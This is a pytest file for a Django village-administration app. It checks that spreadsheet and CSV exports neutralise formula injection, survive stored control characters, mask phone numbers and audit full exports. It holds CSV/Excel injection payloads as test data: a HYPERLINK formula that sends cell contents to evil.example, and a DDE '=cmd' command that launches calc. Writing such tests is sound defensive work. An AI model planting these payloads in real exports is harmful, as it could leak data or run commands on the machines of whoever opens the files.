"""Every export, attacked: names starting with = + - @ never become formulas (issue 11 item 5),
stored control characters never break a file (item 6), masked exports mask phones (item 7)."""

from __future__ import annotations

import csv
import io
import zipfile
from typing import Any

import pytest
from django.test import Client
from openpyxl import load_workbook

from jiceng.core.models import AuditEvent
from jiceng.evaluations import actions as evaluation_actions
from jiceng.evaluations.models import Kind, Pool
from jiceng.evaluations.rules import Scale
from jiceng.evaluations.tests.builders import Officer
from jiceng.ledgers.tests.factories import make_item
from jiceng.meetings import actions as meeting_actions
from jiceng.meetings.rules import Route
from jiceng.meetings.tests.factories import SYSTEM
from jiceng.people.models import Person
from jiceng.people.tests.factories import make_person

FORMULA_START = tuple("=+-@\t\r＝＋－＠")
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+1", "-2+3", "@SUM(1+1)", "＝1+1"]


def formula_cells(content: bytes) -> list[str]:
    """Every formula the workbook holds, read from the XML (what Excel would run)."""
    found = []
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name):
                found.append(name)
    book = load_workbook(io.BytesIO(content))
    found += [f"{s.title}!{c.coordinate}" for s in book.worksheets for row in s.iter_rows() for c in row
              if c.data_type == "f"]  # fmt: skip
    return found


def texts(content: bytes) -> set[str]:
    book = load_workbook(io.BytesIO(content))
    return {str(c.value) for s in book.worksheets for row in s.iter_rows() for c in row if c.value is not None}


@pytest.fixture
def officer(personas: Any) -> Client:
    client = Client()
    client.force_login(personas["township_officer"])
    return client


@pytest.fixture
def hostile_people(tree: Any) -> list[Person]:
    return [make_person(tree.east1, name, phone="13812345678") for name in HOSTILE]


def published_round(tree: Any, names: list[str]) -> Any:
    officer = Officer(tree.east1)
    round_ = evaluation_actions.create_round(officer, organization=tree.east1, kind=Kind.MASS, title="=评议",
                                             year=2026, scale=Scale.SATISFACTION, pool=Pool.VILLAGERS)  # fmt: skip
    evaluation_actions.add_subjects(officer, round_, people=[make_person(tree.east1, n) for n in names])
    codes = evaluation_actions.generate_codes(officer, round_, 6)
    evaluation_actions.open_round(officer, round_)
    subjects = list(round_.subjects.values_list("id", flat=True))
    for code in codes[:5]:
        evaluation_actions.vote(round_.public_key, code, {str(s): "satisfied" for s in subjects})
    evaluation_actions.close_round(officer, round_, 6)
    return evaluation_actions.publish(officer, round_)


EXPORTS = ["/people/export.xlsx", "/people/export.xlsx?full_ids=1", "/people/roster/export/{east1}.xlsx",
           "/people/roster/export/{east1}.xlsx?full_ids=1", "/people/cadres/?format=xlsx"]  # fmt: skip


@pytest.mark.parametrize("path", EXPORTS)
def test_people_exports_hold_no_formula(officer, tree, hostile_people, path):
    response = officer.get(path.format(east1=tree.east1.pk))
    assert response.status_code == 200
    assert formula_cells(response.content) == []
    if "cadres" not in path:
        assert set(HOSTILE) <= texts(response.content)  # the names themselves are kept exactly


def test_ledger_export_holds_no_formula(officer, tree):
    make_item(tree.east1, description="=cmd|' /C calc'!A0", concerned_name="@SUM(1)")
    response = officer.get("/ledgers/export.xlsx")
    assert formula_cells(response.content) == []
    assert {"=cmd|' /C calc'!A0", "@SUM(1)"} <= texts(response.content)


def test_meeting_exports_hold_no_formula(officer, tree):
    from jiceng.core.testing import Fixtures
    from jiceng.meetings.tests.permission_cases import meeting

    held = meeting(Fixtures(tree, {}), past=True)
    meeting_actions.raise_issue(SYSTEM, held, text="=1+1", route=Route.SPECIAL_MEETING, owner="-王")
    for path in ("/meetings/export/", "/meetings/issues/?format=xlsx&show=all",
                 f"/meetings/compliance/{tree.east.pk}/export/"):  # fmt: skip
        response = officer.get(path)
        assert response.status_code == 200, path
        assert formula_cells(response.content) == [], path


def test_evaluation_exports_and_the_public_recount_hold_no_formula(officer, tree):
    round_ = published_round(tree, HOSTILE[:3])
    for path in (f"/evaluations/{round_.pk}/results.xlsx", "/evaluations/assessment.xlsx?year=2026"):
        response = officer.get(path)
        assert formula_cells(response.content) == [], path
    recount = Client().get(f"/evaluations/p/{round_.public_key}/recount.csv").content.decode()
    names = {row[1] for row in list(csv.reader(io.StringIO(recount)))[1:]}
    assert names == {"'" + n for n in HOSTILE[:3]}
    assert not any(cell.startswith(FORMULA_START) for row in csv.reader(io.StringIO(recount)) for cell in row)


# ---------------------------------------------------------------- control characters already stored


def test_exports_survive_control_characters_stored_before_input_cleaning(officer, tree):
    person = make_person(tree.east1, "王小明")
    Person.objects.filter(pk=person.pk).update(
        name="王\x0b小明\x07", ethnicity="汉\x1f族"
    )  # (PostgreSQL cannot store a NUL)
    item = make_item(tree.east1)
    type(item).objects.filter(pk=item.pk).update(description="路灯\x0b坏了\x07")
    for path in ("/people/export.xlsx", f"/people/roster/export/{tree.east1.pk}.xlsx", "/ledgers/export.xlsx"):
        response = officer.get(path)
        assert response.status_code == 200, path
    assert "王\n小明" in texts(officer.get("/people/export.xlsx").content)
    assert "路灯\n坏了" in texts(officer.get("/ledgers/export.xlsx").content)


# ---------------------------------------------------------------- 脱敏: phones masked


def test_masked_exports_mask_phones_and_full_exports_are_audited(officer, tree, personas):
    make_person(tree.east1, "张三", phone="13812345678")
    masked = texts(officer.get("/people/export.xlsx").content)
    assert "138****5678" in masked and "13812345678" not in masked
    roster = texts(officer.get(f"/people/roster/export/{tree.east1.pk}.xlsx").content)
    assert "138****5678" in roster and "13812345678" not in roster
    assert not AuditEvent.objects.filter(action="export").exists()
    full = texts(officer.get("/people/export.xlsx?full_ids=1").content)
    assert "13812345678" in full
    event = AuditEvent.objects.get(action="export")
    assert event.actor == personas["township_officer"] and event.changes["完整联系电话"] is True


def test_a_member_cannot_have_the_full_export(tree, personas):
    make_person(tree.east1, "张三", phone="13812345678")
    client = Client()
    client.force_login(personas["village_secretary"])
    assert client.get("/people/export.xlsx?full_ids=1").status_code == 404
    assert "13812345678" not in texts(client.get("/people/export.xlsx").content)
